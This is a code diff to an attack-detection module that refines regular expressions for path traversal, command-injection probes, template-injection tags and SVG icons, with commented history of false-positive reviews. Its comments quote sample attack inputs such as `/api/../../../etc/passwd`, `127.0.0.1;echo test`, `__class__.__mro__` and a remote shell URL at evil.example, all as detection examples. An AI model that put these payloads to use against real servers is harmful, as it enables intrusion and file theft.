@@ -646,16 +646,20 @@ const CLIMB_SEPARATOR = /\.{2,4}\/?\.{0,2}((?:%[0-9a-z]{1,2}|0x[0-9a-f]{2}|[\u00
  * (fifty-eighth round, the spent hundred-and-thirty-seventh part's miss) An absolute path, a whole value of no blank, that climbs above its
  * own root (`/jbfm/../../`, `/api/../../../etc/passwd`, `C:\inetpub\..\..\x`): no file has a parent of its root, so the climb is
  * written for a server that joins the value to a folder of its own. No benign value of any part climbs so (a relative import climbs from
- * a file, not from a root; `/docs/../guide` stays under it). Not under a redirect parameter, whose path is a URL's (`next=/../index.html`,
- * a page of ours: a browser drops the climb).
+ * a file, not from a root; `/docs/../guide` stays under it). Review: not a page's or an asset's address (`src=/../images/logo.png`, as
+ * public pages write it; a browser drops the climb) nor under a redirect parameter, whose path is a URL's (`next=/../index.html`);
+ * judged on the value as sent as well as with its escaped slashes read (`/jbfm/..\..\input`); and under a parameter named for a file, a
+ * relative path that names a folder first and climbs above it (`path=jbfm/../../input/data`: joined to a folder, it leaves it).
  */
 const PATH_SEPARATOR = /[/\\]/
-const ROOTED_PATH = /^(?:[a-z]:)?[/\\](?![/\\])[^\s?#]{0,300}$/
-function climbsAboveRoot(path: string): boolean {
-  if (path.length > 300 || !ROOTED_PATH.test(path)) return false
+const ROOTED_PATH = /^(?:[a-z]:)?[/\\](?![/\\])[^\s?#]{0,2000}$/
+const FOLDER_FIRST_PATH = /^[\w-][^\s?#]{0,2000}$/
+const WEB_ASSET_END = /\.(?:png|jpe?g|gif|svg|webp|avif|ico|bmp|css|m?js|woff2?|ttf|otf|html?|php)$/
+function climbsAbove(path: string, rooted: boolean): boolean {
+  if (path.length > 2000 || !(rooted ? ROOTED_PATH : FOLDER_FIRST_PATH).test(path) || WEB_ASSET_END.test(path)) return false
   let depth = 0
-  // after the root's separator (the first character's, or a drive's, `c:\`)
-  for (const segment of path.slice(path.charCodeAt(1) === 58 ? 3 : 1).split(PATH_SEPARATOR)) {
+  // after the root's separator (the first character's, or a drive's, `c:\`), or from the first folder's name
+  for (const segment of (rooted ? path.slice(path.charCodeAt(1) === 58 ? 3 : 1) : path).split(PATH_SEPARATOR)) {
     if (segment === '..') {
       if (--depth < 0) return true
     } else if (segment !== '' && segment !== '.') depth++
@@ -1001,12 +1005,15 @@ const CMD_RUN = /\bcmd(?:\.exe)?\s+\/[ck]\s/
  */
 const SLEEP_PROBE = /^\s*sleep\s+\d{1,4}(?:\.\d{1,3})?s?\s*(?:&&|\|\|?|;)\s*(?:echo|printf|id|whoami|uname|hostname|curl|wget|nslookup)(?=[\s;&|]|$)/
 /**
- * (fifty-eighth round, the spent parts' misses) A value that is a host or an address, then a separator and an echo (`127.0.0.1;echo test`,
- * `example.com && printf x`, `10.0.0.1%0aecho hi`): what a ping or lookup form is sent to prove its address is handed to a shell. An echo
- * of words alone is read nowhere else (a chat's `ok; echo that`); a field's address is no sentence. Not in a program's source (left out
- * of PROGRAM_RCE and CODE_RCE, as SLEEP_PROBE).
+ * (fifty-eighth round, the spent parts' misses) A value that is an address, then a separator and an echo (`127.0.0.1;echo test`,
+ * `10.0.0.1%0aecho hi`, `[::1] | printf x`, `127.0.0.1\`echo x\``): what a ping or lookup form is sent to prove its address is handed to
+ * a shell. An echo of words alone is read nowhere else (a chat's `ok; echo that`); a field's address is no sentence. Review: an IP
+ * address (dotted, IPv6, or one number as `ping` reads it) or `localhost` only — a host name's shape is a file's too (`setup.exe && echo
+ * done`, `README.md | echo hi`) — with `ping`'s options around it (`-c 1 127.0.0.1;echo x`); the echo the value's last command, so that
+ * a table's row is not one (`10.0.0.5;Echo Server;linux`); the command word escaped or brace-expanded as a shell reads it (`\echo`,
+ * `{echo,x}`). Not in a program's source (left out of PROGRAM_RCE and CODE_RCE, as SLEEP_PROBE).
  */
-const ADDRESS_PROBE = /^\s*(?:\d{1,3}(?:\.\d{1,3}){3}|localhost|[a-z0-9](?:[a-z0-9-]{0,62}\.){1,6}[a-z]{2,24})(?::\d{1,5})?\s*(?:&&|\|\|?|;|&|\n)\s*(?:echo|printf)\s+\S/
+const ADDRESS_PROBE = /^\s*(?:-[a-z]{1,2}\s{1,4}\d{1,6}\s{1,4}){0,3}(?:\d{1,3}(?:\.\d{1,3}){3}|\[?(?:(?:[0-9a-f]{1,4}:){7}[0-9a-f]{1,4}|[0-9a-f:]{0,30}::[0-9a-f:]{0,30})\]?|0x[0-9a-f]{8}|\d{8,10}|localhost)(?:\s{1,4}-[a-z]{1,2}\s{1,4}\d{1,6}){0,3}\s*(?:&&|\|\|?|;|&|\n|`|\$\()\s*\\?\{?(?:echo|printf)(?:\s+|,)[^;|&\n]{1,80}$/
 const RCE = [
   RFI,
   SLEEP_PROBE,
@@ -1150,11 +1157,13 @@ const SSTI = [
  * `self`, …), no call, literal or operator but an index: a probe's condition computes or reaches.) * (Fifty-eighth round, the spent hundred-and-thirty-eighth part's: and Twig's, a template of a namespace the application registered,
  * `{% include '@molecules/callout/callout.twig' %}`, `{% extends '@hdbt/content/node.html.twig' %}`, a Drupal theme's component; and
  * Jekyll's, an include's file named without quotes with its parameters, `{%- include snippets/prepend-baseurl.html path=site.url -%}`,
- * `{% include functions.html func='log' %}` — a file of the site's own `_includes`, which no other engine parses, no climb nor root.)
+ * `{% include functions.html func='log' %}` — a file of the site's own `_includes`, no climb nor root. Review: folders and one file
+ * name, each a name of the application's (Twig reads `app.session.invalidate.html` as calls, Jinja `request.json` as a lookup), no `__`
+ * (`a=__class__.__mro__`) and no number first (`7-7.html`).)
  */
 /** a name of the application's data, not an engine's object (OWN_TEMPLATE_TAG) */
 const OWN_NAME = String.raw`(?!(?:request|config|self|settings|app|session|g|lipsum|cycler|joiner|namespace|_self|_context|range|dict|url_for|get_flashed_messages)\b)`
-const OWN_TEMPLATE_TAG = String.raw`if\s{1,4}(?:not\s{1,4})?${OWN_NAME}[a-z_]\w{0,40}(?:\.[a-z_]\w{0,40}|\[\d{1,4}\]){0,6}\s{0,4}-?%\}|load(?:\s{1,4}[a-z_][\w.]{0,40}){1,8}\s{0,4}-?%\}|(?:extends|include)\s{1,4}(?:"@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)"|'@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)')(?:\s{1,4}with(?:\s{1,4}[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|[a-z_]\w{0,60}|\d{1,9})){1,12}(?:\s{1,4}only)?)?\s{0,4}-?%\}|include\s{1,4}[\w-][\w.-]{0,60}(?:\/[\w-][\w.-]{0,60}){0,8}\.(?:html|md|markdown|js|css|scss|svg|liquid|txt|xml|json)(?:\s{1,4}[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|${OWN_NAME}[a-z_][\w.]{0,60}|\d{1,9})){0,12}\s{0,4}-?%\}`
+const OWN_TEMPLATE_TAG = String.raw`if\s{1,4}(?:not\s{1,4})?${OWN_NAME}[a-z_]\w{0,40}(?:\.[a-z_]\w{0,40}|\[\d{1,4}\]){0,6}\s{0,4}-?%\}|load(?:\s{1,4}[a-z_][\w.]{0,40}){1,8}\s{0,4}-?%\}|(?:extends|include)\s{1,4}(?:"@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)"|'@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)')(?:\s{1,4}with(?:\s{1,4}[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|[a-z_]\w{0,60}|\d{1,9})){1,12}(?:\s{1,4}only)?)?\s{0,4}-?%\}|include\s{1,4}(?:${OWN_NAME}(?![\w-]{0,60}__)[a-z_][\w-]{0,59}\/){0,8}${OWN_NAME}(?![\w-]{0,60}__)[a-z_][\w-]{0,59}\.(?:html|md|markdown|js|css|scss|svg|liquid|txt|xml|json)(?:\s{1,4}(?!__)[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|${OWN_NAME}(?![\w.]{0,60}__)[a-z_][\w.]{0,60}|\d{1,9})){0,12}\s{0,4}-?%\}`
 /** Jinja/Twig/Nunjucks tags: a probe anywhere but in a Markdown document, where they are its site generator's (`{% include 'x.html' %}`). */
 const SSTI_TAG = new RegExp(String.raw`\{(?<!\{\{)%-?\s*(?!${OWN_TEMPLATE_TAG})(?:import|include|extends|set|for|if|print|debug|raw|do|macro|from|end(?:for|if|block|macro|set|raw|with|filter|autoescape|call))\b[^%]{0,200}?%\}`)
 
@@ -2511,7 +2520,7 @@ function inertAt(v: string, at: number, close: number, comments: boolean): boole
   if (close !== -1 && (element.includes('<!') || quotesOpen(element))) return false
   let icon = element.includes('<use') ? element.replace(LOCAL_USE, '<g/>') : element
   if (icon.includes('<style')) icon = icon.replace(INERT_SVG_STYLE, '')
-  return SVG_ICON.test(icon) && (SVG_DRAWING.test(icon) || (at === 0 && SVG_OPENING_ALONE.test(icon))) && !SVG_ACTIVE.test(icon)
+  return SVG_ICON.test(icon) && (SVG_DRAWING.test(icon) || (at === 0 && SVG_OPENING_ALONE.test(icon) && !quotesOpen(icon))) && !SVG_ACTIVE.test(icon)
 }
 /**
  * (thirty-fourth round) An SVG image as a base64 `data:` URL (a dashboard's, a manifest's or a theme's icon): decoded, an image that
@@ -2777,7 +2786,8 @@ const INERT_SVG_STYLE = new RegExp(String.raw`<style${AFTER_TAG('style')}(?:[ \t
  * (fifty-eighth round, the spent hundred-and-thirty-fourth part's) an icon's opening tag and nothing after it, a value of its own
  * (`"header": "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"125\" …>"`, an avatar builder's parts kept field by field): it draws
  * and runs nothing; its attributes are judged as an icon's are. Only as the whole value: after other markup (`<div id="88"><svg
- * xmlns=…>`, a vector list's opening) it is read as before
+ * xmlns=…>`, a vector list's opening) it is read as before, and with a quote left open (review: `title=">` swallows the page's markup
+ * after it)
  */
 const SVG_OPENING_ALONE = /^<svg\b[^<>]{0,400}>\s*$/
 const SVG_DRAWING = /<(?:path|g|circle|rect|line|polyline|polygon|ellipse|defs|symbol|mask|clippath|lineargradient|radialgradient|stop|text|tspan|title)\b/
@@ -4228,7 +4238,7 @@ export class AttackDetector {
         whole = v.replace(SENTENCE_SYSTEM_FILES, ' a-file ')
       }
       // (a configuration's climb to a directory, `"path": "../../"`, is its own; to a server's file it is not)
-      if (!(path.includes(';') && WINDOWS_PATH_LIST.test(path)) && (anyOf(judges, path) || (path !== whole && anyOf(judges, whole)) || (mode !== PAGE_URL && mode !== PATH && !this.#document && !configuration && !code && (LONE_CLIMB.test(path) || (path.includes('..') && (keyInfo & REDIRECT_KEY) === 0 && climbsAboveRoot(path)))) || (!this.#document && !configuration && !code && CLIMB_SEPARATOR.test(path)) || (mode !== PATH && mode !== PAGE_URL && !this.#document && ((ABSOLUTE_PATH.test(path) && !(commandField && PROGRAM_FILE.test(path)) && !DRIVE_DOCUMENT.test(path) && !PROGRAM_DIRECTORIES.test(path)) || ((keyInfo & FILE_KEY) !== 0 && (SERVER_FILE.test(path) || (path !== v && SERVER_FILE.test(v))) && (!configuration || SERVER_EXTENSION.test(path)) && !ASSET_CLIMB.test(path) && !(key === 'module' && BUILT_MODULE_CLIMB.test(path)) && !PLACEHOLDER_PATH.test(path)) || (!configuration && !code && (CLIMB_TO_SERVER_FILE.test(path) || (path !== v && CLIMB_TO_SERVER_FILE.test(v)))) || ((keyInfo & FILE_KEY) !== 0 && RELATIVE_SYSTEM_PATH.test(path)))))) found |= BIT.path_traversal
+      if (!(path.includes(';') && WINDOWS_PATH_LIST.test(path)) && (anyOf(judges, path) || (path !== whole && anyOf(judges, whole)) || (mode !== PAGE_URL && mode !== PATH && !this.#document && !configuration && !code && (LONE_CLIMB.test(path) || (path.includes('..') && (keyInfo & REDIRECT_KEY) === 0 && (climbsAbove(path, true) || (path !== v && climbsAbove(v, true)) || ((keyInfo & FILE_KEY) !== 0 && climbsAbove(path, false)))))) || (!this.#document && !configuration && !code && CLIMB_SEPARATOR.test(path)) || (mode !== PATH && mode !== PAGE_URL && !this.#document && ((ABSOLUTE_PATH.test(path) && !(commandField && PROGRAM_FILE.test(path)) && !DRIVE_DOCUMENT.test(path) && !PROGRAM_DIRECTORIES.test(path)) || ((keyInfo & FILE_KEY) !== 0 && (SERVER_FILE.test(path) || (path !== v && SERVER_FILE.test(v))) && (!configuration || SERVER_EXTENSION.test(path)) && !ASSET_CLIMB.test(path) && !(key === 'module' && BUILT_MODULE_CLIMB.test(path)) && !PLACEHOLDER_PATH.test(path)) || (!configuration && !code && (CLIMB_TO_SERVER_FILE.test(path) || (path !== v && CLIMB_TO_SERVER_FILE.test(v)))) || ((keyInfo & FILE_KEY) !== 0 && RELATIVE_SYSTEM_PATH.test(path)))))) found |= BIT.path_traversal
     }
     // (twenty-ninth round) a remote file handed to a parameter that names a file, its URL ending on an empty query or a NUL that cuts
     // off what the application appends (`page=http://evil.example/shell.txt?`, `config[path]=http://10.0.0.5:8080/x?`): a remote
